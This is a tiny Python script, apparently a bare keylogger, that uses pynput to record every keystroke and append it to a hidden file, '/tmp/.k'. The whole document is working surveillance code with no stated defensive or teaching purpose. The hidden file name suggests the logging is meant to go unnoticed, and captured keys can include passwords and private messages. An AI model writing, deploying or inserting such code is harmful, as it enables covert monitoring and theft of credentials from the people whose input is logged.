from pynput.keyboard import Listener
def press(key):
    with open("/tmp/.k", "a") as handle:
        handle.write(str(key))
Listener(on_press=press).start()
